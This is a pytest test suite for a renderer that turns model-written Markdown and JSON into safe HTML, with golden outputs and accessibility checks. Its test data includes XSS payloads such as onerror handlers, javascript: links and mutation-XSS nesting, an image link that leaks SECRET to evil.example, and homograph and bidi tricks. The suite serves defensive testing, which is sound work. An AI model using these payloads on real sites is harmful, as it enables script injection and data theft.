"""Nothing that a model writes can act on a page, and nothing of it is lost."""

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from marketplace.rendering import code_style
from marketplace.rendering.json_tree import MAX_MEMBERS, render_json
from marketplace.rendering.markdown import MAX_BYTES, is_permitted_link, render_markdown
from marketplace.rendering.plain import exact, visible

STATIC = Path(__file__).resolve().parents[2] / "static" / "css"

#: Markdown → HTML, whole.
GOLDEN = {
    "headings start at h3 and end at h6": ("# a\n\n#### d", "<h3>a</h3>\n<h6>d</h6>"),
    "emphasis": ("*a* **b** ~~c~~", "<p><em>a</em> <strong>b</strong> <s>c</s></p>"),
    "list with a start": (
        "3. a\n4. b",
        '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>',
    ),
    "line break": ("a  \nb", "<p>a<br>\nb</p>"),
    "script": (
        "<script>alert(1)</script>",
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    ),
    "image tag": (
        '<img src=x onerror="alert(1)">',
        '<p>&lt;img src=x onerror="alert(1)"&gt;</p>',
    ),
    "nested tags": (
        "<div><b><iframe srcdoc='<script>'></b>",
        "<p>&lt;div&gt;&lt;b&gt;&lt;iframe srcdoc='&lt;script&gt;'&gt;&lt;/b&gt;</p>",
    ),
    "svg and math": (
        "<svg onload=alert(1)><math><mi xlink:href=x>",
        "<p>&lt;svg onload=alert(1)&gt;&lt;math&gt;&lt;mi xlink:href=x&gt;</p>",
    ),
    "style": (
        "<style>a{background:url(//evil/x)}</style>",
        "<p>&lt;style&gt;a{background:url(//evil/x)}&lt;/style&gt;</p>",
    ),
    "javascript link": ("[x](javascript:alert(1))", "<p>[x](javascript:alert(1))</p>"),
    "javascript link by entity": (
        "[x](javascript&colon;alert(1))",
        "<p>[x](javascript:alert(1))</p>",
    ),
    "data link": ("[x](data:text/html,a)", "<p>[x](data:text/html,a)</p>"),
    "own address": (
        "[x](/logout) [y](//evil.com)",
        "<p>[x](/logout) [y](//evil.com)</p>",
    ),
    "user part that looks like a host": (
        "[a](https://good.com@evil.com/)",
        "<p>[a](https://good.com@evil.com/)</p>",
    ),
    "link": (
        "[docs](https://a.example/x?q=1#top)",
        '<p><a href="https://a.example/x?q=1#top" rel="nofollow noopener noreferrer">docs</a> '
        '<span class="host">(a.example)</span></p>',
    ),
    "link that says its host": (
        "<https://a.example/x>",
        '<p><a href="https://a.example/x" rel="nofollow noopener noreferrer">'
        "https://a.example/x</a></p>",
    ),
    "link that says another host": (
        "[https://good.com/evil.com](https://evil.com)",
        '<p><a href="https://evil.com" rel="nofollow noopener noreferrer">'
        'https://good.com/evil.com</a> <span class="host">(evil.com)</span></p>',
    ),
    "host in another alphabet": (
        "<https://\u0430\u0440\u0440\u04cf\u0435.com>",
        '<p><a href="https://xn--80ak6aa92e.com" rel="nofollow noopener noreferrer">'
        'https://\u0430\u0440\u0440\u04cf\u0435.com</a> <span class="host">(xn--80ak6aa92e.com)</span></p>',
    ),
    "mail": (
        "[write](mailto:a@b.example)",
        '<p><a href="mailto:a@b.example" rel="nofollow noopener noreferrer">write</a> '
        '<span class="host">(a@b.example)</span></p>',
    ),
    "title is dropped": (
        '[a.example](https://a.example "x")',
        '<p><a href="https://a.example" rel="nofollow noopener noreferrer">a.example</a></p>',
    ),
    "image": (
        "![chart](https://evil.example/?q=SECRET)",
        '<p><a href="https://evil.example/?q=SECRET" rel="nofollow noopener noreferrer">'
        'chart</a> <span class="host">(evil.example)</span></p>',
    ),
    "image without a text, by reference": (
        "![][1]\n\n[1]: http://evil.example/x.png",
        '<p><a href="http://evil.example/x.png" rel="nofollow noopener noreferrer">image</a> '
        '<span class="host">(evil.example)</span></p>',
    ),
    "image of a data address": (
        "![x](data:image/png;base64,AAAA)",
        "<p>![x](data:image/png;base64,AAAA)</p>",
    ),
    "image inside a link": (
        "[![a](http://x.example/y.png)](http://z.example/)",
        '<p><a href="http://z.example/" rel="nofollow noopener noreferrer">a</a> '
        '<span class="host">(z.example)</span></p>',
    ),
    "aligned table": (
        "|a|b|\n|:-:|--:|\n|1|<i>|",
        '<div class="scroll" role="region" aria-label="Table" tabindex="0"><table>\n<thead>\n'
        '<tr>\n<th class="center">a</th>\n<th class="right">b</th>\n</tr>\n</thead>\n<tbody>\n'
        '<tr>\n<td class="center">1</td>\n<td class="right">&lt;i&gt;</td>\n</tr>\n'
        "</tbody>\n</table></div>",
    ),
    "code": (
        "```python\nx = '<b>'\n```",
        '<pre tabindex="0"><code><span class="n">x</span> <span class="o">=</span> '
        "<span class=\"s1\">'&lt;b&gt;'</span>\n</code></pre>",
    ),
    "code in no known language": (
        '```"><script>\n</code><b>\n```',
        '<pre tabindex="0"><code>&lt;/code&gt;&lt;b&gt;\n</code></pre>',
    ),
    "marks that reorder": ("a\u202egpj.exe\u202c", "<p>a[U+202E]gpj.exe[U+202C]</p>"),
}

PERMITTED = {
    "p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "em", "strong", "s", "code", "pre", "hr", "br",
    "blockquote", "table", "thead", "tbody", "tr", "th", "td", "a", "span", "div",
}  # fmt: skip
ATTACKS = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:x) ![x](file:///etc/passwd)",
    "[a](<java\nscript:alert(1)>)",
    "[a]: javascript:alert(1)\n\n[a]",
    '[a](http://x.example/"onmouseover="alert(1))',
    "![a](http://x.example/'onerror='alert(1))",
    '![" onerror="alert(1)](http://x.example)',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><a title='</style><img src onerror=alert(1)>'>",
    "<form><input formaction=javascript:alert(1)>",
    "`<img src=x onerror=alert(1)>` ```<b>```",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "```html\n<script>alert(1)</script>\n```",
    "| <script> | `</td><script>` |\n| --- | --- |\n| <!-- | --> |",
    "<!--><script>alert(1)</script>-->",
    "\x00<script>\x00alert(1)",
    "<a id=run name=document>x</a>\n\n# location {#cookie}",
    "<link rel=prefetch href=//evil><meta http-equiv=refresh content=0>",
]


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parsed(html):
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser


class TestMarkdown:
    @pytest.mark.parametrize("name", GOLDEN)
    def test_is_rendered_as_written_down(self, name):
        text, html = GOLDEN[name]
        assert render_markdown(text).strip() == html

    @pytest.mark.parametrize("text", ATTACKS)
    def test_attacks_leave_nothing_that_acts(self, text):
        for tag, attributes in parsed(render_markdown(text)).found:
            assert tag in PERMITTED
            assert set(attributes) <= {
                "href", "rel", "class", "start", "tabindex", "role", "aria-label",
            }  # fmt: skip
            assert is_permitted_link(attributes.get("href", "https://x.example"))

    def test_a_long_text_is_shown_as_it_is(self):
        text = "# not a heading\n<b>\r\n" + "x" * MAX_BYTES
        html = render_markdown(text)
        assert "<h3>" not in html
        assert "".join(parsed(html).text) == text

    def test_a_long_text_is_measured_in_bytes(self):
        assert "<pre" in render_markdown("é" * (MAX_BYTES // 2 + 1))
        assert "<pre" not in render_markdown("e" * (MAX_BYTES // 2 + 1))

    def test_missing_cells_cannot_blow_a_table_up(self):
        table = "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|a\n" * 60_000
        assert len(render_markdown(table)) < 10 * len(table)


class TestExactText:
    @pytest.mark.parametrize(
        "text", ["\nfirst", "a\r\nb\rc", "<b>&amp;</b>", "'\"", "é\u202e"]
    )
    def test_a_browser_reads_back_what_was_written(self, text):
        # A parser drops one literal LF after <pre> and reads CR as LF; neither may occur.
        html = exact(text)
        assert not html.startswith("\n")
        assert "\r" not in html
        assert "".join(parsed(f"<pre>{html}</pre>").text) == text

    def test_marks_that_reorder_are_written_out(self):
        assert visible("a\u2066b\u2069") == "a[U+2066]b[U+2069]"


class TestJson:
    def test_a_list_of_flat_objects_is_a_table(self):
        html = render_json([{"a": 1, "b": "<i>"}, {"a": None}])
        assert '<th scope="col">a</th><th scope="col">b</th>' in html
        assert '<td><span class="json-text">&lt;i&gt;</span></td>' in html
        assert html.count("<td></td>") == 1

    def test_a_nested_list_is_a_tree(self):
        html = render_json({"plan": [{"steps": ["x"]}, {"steps": []}]})
        assert "<table>" not in html.partition("json-raw")[0]
        assert html.count("<details") == 5

    def test_deep_levels_are_folded(self):
        html = render_json({"a": {"b": {"c": {"d": 1}}}})
        assert html.count("<details open>") == 2

    @pytest.mark.parametrize(
        "value", [None, True, 0, 1.5, "", "text", [], {}, [1, "a"], {"<k>": "</pre>"}]
    )
    def test_the_raw_text_has_the_value(self, value):
        html = render_json(value)
        raw = re.search(r'<pre tabindex="0">(.*)</pre>', html, re.DOTALL)[1]
        assert json.loads("".join(parsed(raw).text)) == value

    def test_keys_and_texts_cannot_act(self):
        html = render_json({"<script>": ["<img onerror=x>", {"'\"": "<svg>"}]})
        tags = {tag for tag, _ in parsed(html).found}
        assert tags == {"div", "ul", "li", "details", "summary", "span", "pre"}

    def test_long_lists_say_what_is_left_out(self):
        html = render_json(list(range(MAX_MEMBERS + 3)))
        assert "3 more in the raw JSON" in html

    def test_the_deepest_value_is_shown(self):
        value: object = "end"
        for _ in range(100):
            value = [value]
        assert "end" in render_json(value).partition("json-raw")[0]


class TestCodeStyle:
    def test_the_committed_sheet_is_current(self):
        assert (STATIC / "pygments.css").read_text() == code_style.stylesheet()

    def test_every_colour_can_be_read(self):
        tokens = (STATIC / "tokens.css").read_text()
        grounds = re.search(
            r"--sunken:\s*light-dark\((#\w+), *(#\w+)\)", tokens
        ).groups()
        for light, dark, _ in code_style.PALETTE.values():
            assert contrast(light, grounds[0]) >= 4.5
            assert contrast(dark, grounds[1]) >= 4.5


def contrast(one, other):
    """WCAG 2.2, relative luminance and contrast ratio."""
    high, low = sorted((luminance(one), luminance(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def luminance(colour):
    parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
    linear = [
        p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts
    ]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
